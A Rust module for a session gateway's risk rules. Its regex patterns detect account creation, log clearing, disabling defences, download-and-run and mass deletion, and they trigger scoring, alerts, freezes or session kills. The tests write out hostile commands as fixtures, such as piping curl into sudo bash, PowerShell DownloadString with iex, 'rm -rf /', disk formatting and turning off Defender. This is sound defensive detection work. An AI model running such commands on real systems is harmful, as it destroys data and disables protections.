//! Risk rules: patterns in what a session's user types, pastes and sees that deserve attention,
//! each with a score and what the gateway does when it fires (nothing more than scoring, an alert
//! to the security team, a freeze, or the session's end).
//!
//! The policy document lists them under `[[risk]]`. A built-in set ([`builtin`]: account
//! creation, log clearing, disabling defences, download-and-run, mass deletion) applies unless
//! the document turns a rule off; a document entry with a built-in rule's name tunes it (any
//! field it gives replaces the built-in's), any other name adds a rule.
//!
//! ```toml
//! [[risk]]
//! name = "account_creation"   # built-in: now freezes the session
//! action = "freeze"
//!
//! [[risk]]
//! name = "log_clearing"       # built-in: off
//! enabled = false
//!
//! [[risk]]
//! name = "prod_db_dump"       # a rule of our own, on production machines only
//! pattern = '(?i)\bpg_dumpall\b'
//! on = ["typed"]
//! score = 60
//! action = "kill"
//! targets = ["label:prod"]
//! ```
//!
//! Patterns are regular expressions (the `regex` crate: linear time in the text, no
//! backtracking), bounded in length and compiled size; the text checked is bounded by the caller
//! and again here ([`MAX_CHECKED`]).

use std::fmt;
use std::sync::Arc;

use serde::{Deserialize, Serialize};

use crate::error::{PolicyError, Problem};
use crate::policy::TargetPattern;
use crate::TargetRef;

/// The most risk rules a document may have (built-ins included).
pub const MAX_RISK_RULES: usize = 64;
/// The longest pattern, in bytes.
pub const MAX_PATTERN_LEN: usize = 1024;
/// The most of a text that is checked, in bytes (the start of a longer one).
pub const MAX_CHECKED: usize = 64 * 1024;
/// The longest excerpt of a match kept with a hit, in characters.
pub const MAX_EXCERPT: usize = 200;
/// A compiled pattern's size limit (the regex crate's), in bytes.
const COMPILED_LIMIT: usize = 1 << 20;

/// Where text seen in a session comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum TextSource {
    /// A command line the user typed (checked when it is submitted with Enter).
    Typed,
    /// Text on the screen (read by OCR).
    Screen,
    /// Text the user pasted into the target.
    Clipboard,
}

impl TextSource {
    /// Every source.
    pub fn all() -> Vec<TextSource> {
        vec![TextSource::Typed, TextSource::Screen, TextSource::Clipboard]
    }

    /// The name used in documents and records.
    pub fn as_str(self) -> &'static str {
        match self {
            TextSource::Typed => "typed",
            TextSource::Screen => "screen",
            TextSource::Clipboard => "clipboard",
        }
    }
}

impl fmt::Display for TextSource {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// What the gateway does when a risk rule fires on a live session. Ordered by severity.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Default, Serialize, Deserialize,
)]
#[serde(rename_all = "snake_case")]
pub enum RiskAction {
    /// Adds to the session's risk score, nothing else.
    Score,
    /// Also tells the security team at once (console, audit trail, SIEM).
    #[default]
    Alert,
    /// Also holds the user's input (as a security team freeze) until the security team lets
    /// it go; a typed command line is not submitted.
    Freeze,
    /// Also ends the session; a typed command line is not submitted.
    Kill,
}

impl RiskAction {
    /// The name used in documents and records.
    pub fn as_str(self) -> &'static str {
        match self {
            RiskAction::Score => "score",
            RiskAction::Alert => "alert",
            RiskAction::Freeze => "freeze",
            RiskAction::Kill => "kill",
        }
    }

    /// True when the action stops what fired it (the command line is not submitted).
    pub fn stops(self) -> bool {
        self >= RiskAction::Freeze
    }
}

impl fmt::Display for RiskAction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One risk rule as the policy document writes it. For a built-in rule's name every field is
/// optional (what is given replaces the built-in's); a new rule needs a `pattern`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RiskRuleDoc {
    /// A unique name (letters, digits, `_`, `-`), named in alerts and reasons.
    pub name: String,
    /// Free text for administrators and reviewers: what the rule is about.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
    /// A regular expression (`(?i)` for case-insensitive), searched anywhere in the text.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pattern: Option<String>,
    /// Which texts it is checked against. All by default.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub on: Option<Vec<TextSource>>,
    /// What a hit adds to the session's risk score (0 to 100). 20 by default.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub score: Option<u32>,
    /// What the gateway does on a hit in a live session. `alert` by default.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub action: Option<RiskAction>,
    /// Which targets it applies to (`name:`, `label:`, `*`). Any by default.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub targets: Option<Vec<String>>,
    /// False turns the rule (a built-in one, typically) off.
    #[serde(default = "yes", skip_serializing_if = "is_true")]
    pub enabled: bool,
}

fn yes() -> bool {
    true
}

fn is_true(b: &bool) -> bool {
    *b
}

impl RiskRuleDoc {
    /// A rule named `name` with nothing else said (for a built-in: as shipped).
    pub fn named(name: &str) -> Self {
        Self {
            name: name.to_owned(),
            description: None,
            pattern: None,
            on: None,
            score: None,
            action: None,
            targets: None,
            enabled: true,
        }
    }
}

/// The built-in rules: name, description, pattern, score. Each is checked against every source,
/// on any target, and alerts.
const BUILTIN: &[(&str, &str, &str, u32)] = &[
    (
        "account_creation",
        "a local account created or added to the administrators",
        r"(?i)\bnet(\.exe)?\s+(user|localgroup\s+administrators)\b.*\s/add\b|\buseradd\b|\badduser\b|\bNew-LocalUser\b|\busermod\s+.*-a?G\s*\S*\b(sudo|wheel|admin)\b",
        40,
    ),
    (
        "log_clearing",
        "event logs or shell history cleared",
        r"(?i)\bwevtutil(\.exe)?\s+(cl|clear-log)\b|\bClear-EventLog\b|\bhistory\s+-c\b|\bunset\s+HISTFILE\b|\bjournalctl\b.*--vacuum|\brm\s+(-\S+\s+)*/var/log\b|\bshred\b.*/var/log\b|>\s*/var/log/\S+",
        50,
    ),
    (
        "defence_disabling",
        "antivirus, firewall, audit or SELinux turned off",
        r"(?i)\bSet-MpPreference\b.*-Disable\w+\s+(\$true|1)\b|\bsetenforce\s+0\b|\bsystemctl\s+(stop|disable|mask)\s+(auditd|firewalld|apparmor|ufw|falcon-sensor)\b|\bufw\s+disable\b|\bnetsh\s+(adv)?firewall\s+set\s+\S+\s+state\s+off\b|\bauditctl\s+-D\b|\biptables\s+-F\b",
        50,
    ),
    (
        "download_and_run",
        "a script downloaded and run at once",
        r"(?i)\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\b(iex|Invoke-Expression)\b.*\b(DownloadString|iwr|Invoke-WebRequest)\b|\b(DownloadString|iwr|Invoke-WebRequest)\b.*\|\s*(iex|Invoke-Expression)\b",
        40,
    ),
    (
        "mass_deletion",
        "a whole file system, home or drive deleted or formatted",
        r#"(?i)\brm\s+(-[a-z]*r[a-z]*f[a-z]*|-[a-z]*f[a-z]*r[a-z]*|(-r\s+-f|-f\s+-r))\s+(--no-preserve-root\s+)?(/|/\*|~/?|\*)(\s|$)|\bdel\s+(/[sqf]\s+)+[a-z]:\\|\bRemove-Item\b.*-Recurse\b.*\s[a-z]:\\?\s*$|\bformat(\.com)?\s+[a-z]:|\bmkfs(\.\w+)?\s"#,
        60,
    ),
];

/// The built-in rules as documents (what a document's entries of the same name tune).
pub fn builtin() -> Vec<RiskRuleDoc> {
    BUILTIN
        .iter()
        .map(|(name, description, pattern, score)| RiskRuleDoc {
            name: (*name).to_owned(),
            description: Some((*description).to_owned()),
            pattern: Some((*pattern).to_owned()),
            on: Some(TextSource::all()),
            score: Some(*score),
            action: Some(RiskAction::Alert),
            targets: Some(vec!["*".to_owned()]),
            enabled: true,
        })
        .collect()
}

/// A compiled risk rule.
#[derive(Debug)]
pub struct RiskRule {
    name: Arc<str>,
    description: String,
    pattern: regex::Regex,
    on: Vec<TextSource>,
    score: u32,
    action: RiskAction,
    targets: Vec<TargetPattern>,
}

impl RiskRule {
    /// Its name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// What it is about.
    pub fn description(&self) -> &str {
        &self.description
    }

    /// What a hit adds to the score.
    pub fn score(&self) -> u32 {
        self.score
    }

    /// What the gateway does on a hit.
    pub fn action(&self) -> RiskAction {
        self.action
    }

    fn applies_to<L: AsRef<str>>(&self, target: &TargetRef<'_, L>) -> bool {
        self.targets.iter().any(|p| p.matches(target))
    }
}

/// A rule that fired: which, on what text, and what it asks for.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RiskHit {
    /// The rule's name.
    pub rule: String,
    /// What it is about.
    pub description: String,
    /// The text's source.
    pub source: TextSource,
    /// What a hit adds to the score.
    pub score: u32,
    /// What the gateway does.
    pub action: RiskAction,
    /// The matching text (at most [`MAX_EXCERPT`] characters).
    pub excerpt: String,
}

/// The risk rules that apply to one session (its target's): what a grant carries.
#[derive(Debug, Clone, Default)]
pub struct RiskSet {
    rules: Vec<Arc<RiskRule>>,
}

impl PartialEq for RiskSet {
    fn eq(&self, other: &Self) -> bool {
        self.rules.len() == other.rules.len()
            && self.rules.iter().zip(&other.rules).all(|(a, b)| {
                a.name == b.name
                    && a.pattern.as_str() == b.pattern.as_str()
                    && a.on == b.on
                    && a.score == b.score
                    && a.action == b.action
            })
    }
}

impl Eq for RiskSet {}

impl RiskSet {
    /// True when no rule applies.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The rules, in document order.
    pub fn rules(&self) -> impl Iterator<Item = &RiskRule> {
        self.rules.iter().map(AsRef::as_ref)
    }

    /// True when some rule looks at text from `source` (so the caller need not gather it).
    pub fn watches(&self, source: TextSource) -> bool {
        self.rules.iter().any(|r| r.on.contains(&source))
    }

    /// The rules that fire on `text` from `source` (only the first [`MAX_CHECKED`] bytes are
    /// looked at), most severe action first.
    pub fn check(&self, source: TextSource, text: &str) -> Vec<RiskHit> {
        let text = head(text, MAX_CHECKED);
        let mut hits: Vec<RiskHit> = self
            .rules
            .iter()
            .filter(|r| r.on.contains(&source))
            .filter_map(|r| {
                let m = r.pattern.find(text)?;
                Some(RiskHit {
                    rule: r.name.to_string(),
                    description: r.description.clone(),
                    source,
                    score: r.score,
                    action: r.action,
                    excerpt: m.as_str().chars().take(MAX_EXCERPT).collect(),
                })
            })
            .collect();
        hits.sort_by_key(|h| std::cmp::Reverse(h.action));
        hits
    }
}

/// The first `max` bytes of `text`, cut at a character boundary.
fn head(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// A rule's name: 1 to 64 of letters, digits, `_` and `-`.
fn check_rule_name(name: &str) -> Result<(), Problem> {
    if name.is_empty() {
        return Err(Problem::EmptyName);
    }
    if name.len() > 64
        || !name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
    {
        return Err(Problem::BadRiskName(name.to_owned()));
    }
    Ok(())
}

/// The document's risk rules merged over the built-ins, compiled; each problem is added to
/// `problems` and its rule left out.
pub(crate) fn compile(docs: &[RiskRuleDoc], problems: &mut Vec<PolicyError>) -> Vec<Arc<RiskRule>> {
    let mut merged = builtin();
    let builtins = merged.len();
    for (i, doc) in docs.iter().enumerate() {
        let mut report = |field: &str, problem: Problem| {
            problems.push(PolicyError::Risk {
                index: i,
                name: doc.name.clone(),
                field: field.to_owned(),
                problem,
            });
        };
        if let Err(problem) = check_rule_name(&doc.name) {
            report("name", problem);
            continue;
        }
        if docs[..i].iter().any(|d| d.name == doc.name) {
            report("name", Problem::DuplicateRiskName);
            continue;
        }
        match merged[..builtins].iter_mut().find(|b| b.name == doc.name) {
            Some(base) => {
                let base_doc = base.clone();
                *base = RiskRuleDoc {
                    name: doc.name.clone(),
                    description: doc.description.clone().or(base_doc.description),
                    pattern: doc.pattern.clone().or(base_doc.pattern),
                    on: doc.on.clone().or(base_doc.on),
                    score: doc.score.or(base_doc.score),
                    action: doc.action.or(base_doc.action),
                    targets: doc.targets.clone().or(base_doc.targets),
                    enabled: doc.enabled,
                };
            }
            None if doc.pattern.is_none() => {
                report("pattern", Problem::MissingPattern);
            }
            None => merged.push(doc.clone()),
        }
    }
    if merged.len() > MAX_RISK_RULES {
        problems.push(PolicyError::Risk {
            index: docs.len().saturating_sub(1),
            name: String::new(),
            field: "risk".to_owned(),
            problem: Problem::OutOfRange {
                min: 0,
                max: MAX_RISK_RULES as u64,
            },
        });
        merged.truncate(MAX_RISK_RULES);
    }
    merged
        .iter()
        .filter(|d| d.enabled)
        .filter_map(|d| {
            let index = docs.iter().position(|x| x.name == d.name).unwrap_or(0);
            compile_one(d)
                .map_err(|(field, problem)| {
                    problems.push(PolicyError::Risk {
                        index,
                        name: d.name.clone(),
                        field: field.to_owned(),
                        problem,
                    });
                })
                .ok()
        })
        .map(Arc::new)
        .collect()
}

fn compile_one(doc: &RiskRuleDoc) -> Result<RiskRule, (&'static str, Problem)> {
    let source = doc.pattern.as_deref().unwrap_or_default();
    if source.is_empty() {
        return Err(("pattern", Problem::MissingPattern));
    }
    if source.len() > MAX_PATTERN_LEN {
        return Err((
            "pattern",
            Problem::OutOfRange {
                min: 1,
                max: MAX_PATTERN_LEN as u64,
            },
        ));
    }
    let pattern = regex::RegexBuilder::new(source)
        .size_limit(COMPILED_LIMIT)
        .dfa_size_limit(COMPILED_LIMIT)
        .nest_limit(64)
        .build()
        .map_err(|e| ("pattern", Problem::BadPattern(first_line(&e.to_string()))))?;
    let on = doc.on.clone().unwrap_or_else(TextSource::all);
    if on.is_empty() {
        return Err(("on", Problem::NoSources));
    }
    let score = doc.score.unwrap_or(20);
    if score > 100 {
        return Err(("score", Problem::OutOfRange { min: 0, max: 100 }));
    }
    let target_strings = doc.targets.clone().unwrap_or_else(|| vec!["*".to_owned()]);
    if target_strings.is_empty() {
        return Err(("targets", Problem::NoTargets));
    }
    let mut targets = Vec::with_capacity(target_strings.len());
    for t in &target_strings {
        targets.push(crate::policy::parse_target(t).map_err(|p| ("targets", p))?);
    }
    Ok(RiskRule {
        name: doc.name.as_str().into(),
        description: doc.description.clone().unwrap_or_default(),
        pattern,
        on,
        score,
        action: doc.action.unwrap_or_default(),
        targets,
    })
}

/// The regex crate's message without its pointer lines, at most 300 characters.
fn first_line(message: &str) -> String {
    let line = message
        .lines()
        .rev()
        .find(|l| l.trim_start().starts_with("error:"))
        .unwrap_or_else(|| message.lines().next().unwrap_or(""));
    line.trim().chars().take(300).collect()
}

/// The rules of `all` that apply to `target`.
pub(crate) fn for_target<L: AsRef<str>>(
    all: &[Arc<RiskRule>],
    target: &TargetRef<'_, L>,
) -> RiskSet {
    RiskSet {
        rules: all
            .iter()
            .filter(|r| r.applies_to(target))
            .cloned()
            .collect(),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;
    use crate::{Policy, PolicyDoc};

    fn set(docs: Vec<RiskRuleDoc>, labels: &[&str]) -> RiskSet {
        let mut doc = PolicyDoc::default_policy();
        doc.risk = docs;
        let policy = Policy::compile(&doc).unwrap();
        policy.risk_for(&TargetRef {
            name: "web01",
            labels,
        })
    }

    fn fired(set: &RiskSet, source: TextSource, text: &str) -> Vec<String> {
        set.check(source, text)
            .into_iter()
            .map(|h| h.rule)
            .collect()
    }

    #[test]
    fn builtins_catch_the_classics_and_leave_everyday_commands_alone() {
        let s = set(Vec::new(), &[]);
        let typed = |t| fired(&s, TextSource::Typed, t);
        for (text, rule) in [
            ("net user eve S3cret! /add", "account_creation"),
            ("net localgroup administrators eve /add", "account_creation"),
            ("sudo useradd -m eve", "account_creation"),
            ("New-LocalUser -Name eve", "account_creation"),
            ("wevtutil cl Security", "log_clearing"),
            ("history -c", "log_clearing"),
            ("sudo rm -rf /var/log/audit", "log_clearing"),
            (
                "Set-MpPreference -DisableRealtimeMonitoring $true",
                "defence_disabling",
            ),
            ("sudo setenforce 0", "defence_disabling"),
            ("systemctl stop auditd", "defence_disabling"),
            (
                "curl -fsSL https://x.example/i.sh | sudo bash",
                "download_and_run",
            ),
            ("wget -qO- http://x/y|sh", "download_and_run"),
            (
                "iex (New-Object Net.WebClient).DownloadString('http://x')",
                "download_and_run",
            ),
            ("rm -rf /", "mass_deletion"),
            ("sudo rm -fr --no-preserve-root /", "mass_deletion"),
            ("rm -rf ~", "mass_deletion"),
            ("format D:", "mass_deletion"),
            ("mkfs.ext4 /dev/sdb1", "mass_deletion"),
        ] {
            assert_eq!(typed(text), vec![rule.to_owned()], "{text}");
        }
        for text in [
            "ls -la /var/log",
            "net user eve",
            "rm -rf /tmp/build",
            "rm -rf ./target",
            "curl https://example.com -o page.html",
            "tail -f /var/log/syslog",
            "history | grep ssh",
            "systemctl status auditd",
            "git log --format=oneline",
        ] {
            assert!(typed(text).is_empty(), "{text}: {:?}", typed(text));
        }
    }

    #[test]
    fn a_document_tunes_disables_and_adds_rules() {
        let mut freeze = RiskRuleDoc::named("account_creation");
        freeze.action = Some(RiskAction::Freeze);
        freeze.score = Some(90);
        let mut off = RiskRuleDoc::named("log_clearing");
        off.enabled = false;
        let mut own = RiskRuleDoc::named("prod_dump");
        own.pattern = Some(r"(?i)\bpg_dumpall\b".into());
        own.on = Some(vec![TextSource::Typed]);
        own.action = Some(RiskAction::Kill);
        own.targets = Some(vec!["label:prod".into()]);
        let docs = vec![freeze, off, own];

        let s = set(docs.clone(), &["prod"]);
        let hits = s.check(
            TextSource::Typed,
            "net user eve x /add && PG_DUMPALL > all.sql",
        );
        assert_eq!(
            hits.iter()
                .map(|h| (h.rule.as_str(), h.action, h.score))
                .collect::<Vec<_>>(),
            vec![
                ("prod_dump", RiskAction::Kill, 20),
                ("account_creation", RiskAction::Freeze, 90),
            ],
            "most severe first"
        );
        assert_eq!(hits[0].excerpt, "PG_DUMPALL");
        assert!(fired(&s, TextSource::Typed, "wevtutil cl System").is_empty());
        // Typed only, and on production only.
        assert!(fired(&s, TextSource::Screen, "pg_dumpall").is_empty());
        assert!(fired(&set(docs, &["dev"]), TextSource::Typed, "pg_dumpall").is_empty());
    }

    #[test]
    fn bad_rules_are_refused_with_their_name_and_field() {
        let problem = |doc: RiskRuleDoc| {
            let mut policy = PolicyDoc::default_policy();
            policy.risk = vec![doc];
            Policy::compile(&policy).unwrap_err().to_string()
        };
        let mut bad = RiskRuleDoc::named("mine");
        assert_eq!(
            problem(bad.clone()),
            "risk rule \"mine\": pattern: a rule of its own needs a pattern"
        );
        bad.pattern = Some("(unclosed".into());
        assert!(
            problem(bad.clone())
                .starts_with("risk rule \"mine\": pattern: not a valid regular expression"),
            "{}",
            problem(bad.clone())
        );
        bad.pattern = Some("a{1000}{1000}".into());
        assert!(problem(bad.clone()).contains("pattern: not a valid regular expression"));
        bad.pattern = Some("x".repeat(MAX_PATTERN_LEN + 1));
        assert!(problem(bad.clone()).contains("pattern: must be from 1 to 1024"));
        bad.pattern = Some("x".into());
        bad.score = Some(101);
        assert!(problem(bad.clone()).contains("score: must be from 0 to 100"));
        bad.score = None;
        bad.on = Some(Vec::new());
        assert!(problem(bad.clone()).contains("on: empty"));
        bad.on = None;
        bad.targets = Some(vec!["prod".into()]);
        assert!(problem(bad.clone()).contains("targets: \"prod\" has no prefix"));
        bad.targets = None;
        bad.name = "has space".into();
        assert!(problem(bad.clone()).contains("letters, digits"));
        let mut policy = PolicyDoc::default_policy();
        policy.risk = vec![
            RiskRuleDoc::named("log_clearing"),
            RiskRuleDoc::named("log_clearing"),
        ];
        assert!(Policy::compile(&policy)
            .unwrap_err()
            .to_string()
            .contains("name: already used"));
    }

    #[test]
    fn checked_text_is_bounded_and_excerpts_are_short() {
        let s = set(Vec::new(), &[]);
        let mut long = "é".repeat(MAX_CHECKED); // two bytes each: cut inside a character
        long.push_str(" rm -rf /");
        assert!(
            s.check(TextSource::Screen, &long).is_empty(),
            "past the checked head"
        );
        let mut own = RiskRuleDoc::named("long");
        own.pattern = Some("a+".into());
        let s = set(vec![own], &[]);
        assert_eq!(
            s.check(TextSource::Clipboard, &"a".repeat(5000))[0]
                .excerpt
                .chars()
                .count(),
            MAX_EXCERPT
        );
    }

    #[test]
    fn documents_round_trip_through_toml() {
        let text = r#"
            [[rules]]
            name = "all"
            subjects = ["*"]
            targets = ["*"]

            [[risk]]
            name = "account_creation"
            action = "freeze"

            [[risk]]
            name = "mine"
            pattern = '(?i)\bshutdown\b'
            on = ["typed", "screen"]
        "#;
        let doc: PolicyDoc = toml::from_str(text).unwrap();
        assert_eq!(doc.risk[0].action, Some(RiskAction::Freeze));
        let policy = Policy::compile(&doc).unwrap();
        let s = policy.risk_for(&TargetRef {
            name: "x",
            labels: &[] as &[&str],
        });
        assert_eq!(s.rules().count(), BUILTIN.len() + 1);
        let again: PolicyDoc = toml::from_str(&toml::to_string(&doc).unwrap()).unwrap();
        assert_eq!(again, doc);
    }
}
